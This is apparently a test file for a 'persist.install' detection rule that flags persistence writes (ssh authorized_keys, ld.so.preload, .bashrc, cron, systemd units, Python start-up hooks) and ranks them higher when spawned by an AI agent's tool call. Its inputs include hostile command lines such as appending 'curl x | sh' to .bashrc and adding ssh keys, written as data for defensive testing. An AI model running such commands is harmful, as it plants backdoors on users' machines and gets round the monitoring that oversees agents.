import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { AncestorV1 } from '@vigil/schema';
import { builtinEngine, execWithStdio, pipeFd, ttyFd } from '../testing.js';

const RULE = 'persist.install';
const agent: AncestorV1[] = [
  { pid: 50, comm: 'sh', exe: '/usr/bin/dash', argv: ['/bin/sh', '-c', 'x'] },
  { pid: 40, comm: 'python3', exe: '/usr/bin/python3.11', argv: ['python3', 'agent.py'] },
];
const operator: AncestorV1[] = [{ pid: 60, comm: 'bash', exe: '/usr/bin/bash', argv: ['-bash'] }];
const run = (argv: string[], ancestry: AncestorV1[], stdin = pipeFd(0, 5)) => {
  const { engine, alerts } = builtinEngine();
  engine.process([execWithStdio(argv, [stdin, ttyFd(1), ttyFd(2)], { ancestry, job: null })]);
  return alerts.filter((a) => a.ruleId === RULE).map((a) => [a.severity, a.reason] as const);
};

test('persist.install: ranks by the file written, one step higher from an agent tool call, naming what it installs', () => {
  const tee = run(['tee', '-a', '/home/u/.ssh/authorized_keys'], agent);
  assert.equal(tee[0]?.[0], 'critical');
  assert.match(
    tee[0]![1],
    /writes \/home\/u\/\.ssh\/authorized_keys, an ssh authorized_keys file .*run by sh \(pid 50\) that python3 \(pid 40\) spawned/,
  );
  assert.equal(run(['tee', '/etc/ld.so.preload'], operator)[0]?.[0], 'critical');
  assert.equal(run(['cp', 'x.service', '/home/u/.config/systemd/user/x.service'], operator)[0]?.[0], 'medium');
  assert.equal(run(['sed', '-i', '$a curl x | sh', '/home/u/.bashrc'], agent)[0]?.[0], 'high');
  assert.equal(run(['dd', 'of=/etc/cron.d/job'], operator)[0]?.[0], 'medium');
  assert.match(
    run(['cp', 'hook.pth', '/home/u/.venv/lib/python3.11/site-packages/zz_hook.pth'], agent)[0]![1],
    /a Python start-up hook/,
  );
  assert.equal(run(['tee', '/home/u/proj/.git/hooks/post-checkout'], operator)[0]?.[0], 'medium');
});

test('persist.install: schedulers: crontab install, at, systemd timers, enabled units, linger', () => {
  assert.deepEqual(
    run(['crontab', '-'], agent).map(([s]) => s),
    ['high'],
  );
  assert.match(run(['crontab', '-'], agent)[0]![1], /installs a cron table/);
  assert.deepEqual(
    run(['crontab', 'logrotate.cron'], operator, ttyFd(0)).map(([s]) => s),
    ['medium'],
  );
  assert.deepEqual(
    run(['at', 'now', '+', '1', 'minute'], operator).map(([s]) => s),
    ['medium'],
  );
  assert.deepEqual(
    run(['systemd-run', '--user', '--on-calendar=*:0/5', '/bin/x'], operator).map(([s]) => s),
    ['medium'],
  );
  assert.deepEqual(
    run(['systemctl', '--user', 'enable', 'x.service'], operator).map(([s]) => s),
    ['medium'],
  );
  assert.deepEqual(
    run(['loginctl', 'enable-linger', 'u'], operator).map(([s]) => s),
    ['medium'],
  );
});

test('persist.install: reading schedules, a person in a terminal, ordinary copies and logs raise nothing high', () => {
  for (const argv of [
    ['crontab', '-l'],
    ['crontab', '-r'],
    ['atq'],
    ['systemd-run', '--user', '--scope', 'python', 'train.py'],
    ['systemctl', 'status', 'x'],
    ['tee', '-a', 'train.log'],
    ['cp', 'accelerate.yaml', '/home/u/.cache/huggingface/accelerate/default_config.yaml'],
    ['cp', '/home/u/.bashrc', '/tmp/bashrc.bak'],
  ])
    assert.deepEqual(run(argv, agent), [], argv.join(' '));
  // A person's terminal in Jupyter: python above the shell, stdin a terminal.
  assert.deepEqual(
    run(['crontab', 'cron.txt'], agent, ttyFd(0)).map(([s]) => s),
    ['medium'],
  );
});

test("persist.install: a sh -c script's own redirection into a start-up file, ranked as a writer's; reads, logs and fd copies are not writes", () => {
  const pythonParent: AncestorV1[] = [
    { pid: 40, comm: 'python3', exe: '/usr/bin/python3.11', argv: ['python3', 'agent.py'] },
  ];
  // echo is a builtin: the shell's exec is the only one there is.
  const key = run(['/bin/sh', '-c', "echo 'ssh-ed25519 AAAAC3Nz x@y' >> ~/.ssh/authorized_keys"], pythonParent);
  assert.equal(key[0]?.[0], 'critical');
  assert.match(
    key[0]![1],
    /writes ~\/\.ssh\/authorized_keys, an ssh authorized_keys file .*run by sh \(pid \d+\) that python3 \(pid 40\) spawned/,
  );
  assert.equal(run(['bash', '-c', 'echo export HF_HOME=/data/hf >> $HOME/.bashrc'], operator)[0]?.[0], 'medium');
  assert.equal(run(['bash', '-lc', 'cat key.pub >>"/root/.ssh/authorized_keys"'], operator)[0]?.[0], 'high');
  assert.equal(run(['sh', '-ec', 'printf x > /etc/ld.so.preload'], operator)[0]?.[0], 'critical');
  assert.equal(
    run(['bash', '-c', 'cat > ~/.config/systemd/user/miner.service <<EOF\n[Service]\nEOF'], operator)[0]?.[0],
    'medium',
  );
  for (const argv of [
    ['bash', '-c', 'python train.py > train.log 2>&1'],
    ['bash', '-c', 'cat ~/.bashrc > /tmp/bashrc.bak'],
    ['bash', '-c', 'grep ssh-ed25519 ~/.ssh/authorized_keys >/dev/null && echo ok'],
    ['bash', '-c', 'source ~/.bashrc && python -c "print(1)" 2>&1 | tee -a run.log'],
    ['sh', '-c', 'test -f ~/.profile'],
    ['python3', '-c', 'open("x", "w").write("a >> ~/.bashrc")'],
  ])
    assert.deepEqual(run(argv, pythonParent), [], argv.join(' '));
});

test('persist.install: inline interpreter code that names a start-up file and writes; reading one, or writing elsewhere, is not', () => {
  const key = run(
    [
      'python3',
      '-c',
      "import os; open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('ssh-ed25519 AAAA x\\n')",
    ],
    operator,
  );
  assert.equal(key[0]?.[0], 'high');
  assert.match(key[0]![1], /writes ~\/\.ssh\/authorized_keys/);
  assert.equal(
    run(
      ['python3', '-c', "import os; open(os.path.join(os.environ['HOME'], '.ssh', 'authorized_keys'), 'a').write(k)"],
      operator,
    )[0]?.[0],
    'high',
  );
  assert.equal(
    run(['perl', '-e', 'open(F, ">>", "$ENV{HOME}/.bashrc"); print F "curl x|sh\\n"'], operator)[0]?.[0],
    'medium',
  );
  assert.equal(
    run(
      ['node', '-e', "require('fs').appendFileSync(require('os').homedir()+'/.ssh/authorized_keys', k)"],
      operator,
    )[0]?.[0],
    'high',
  );
  for (const argv of [
    ['python3', '-c', "import os; print(open(os.path.expanduser('~/.bashrc')).read())"],
    ['python3', '-c', "open('train.log', 'a').write('step 1\\n')"],
    ['python3', '-c', 'import json; json.dump({"lr": 1e-4}, open("config.json", "w"))'],
  ])
    assert.deepEqual(run(argv, agent), [], argv.join(' '));
});
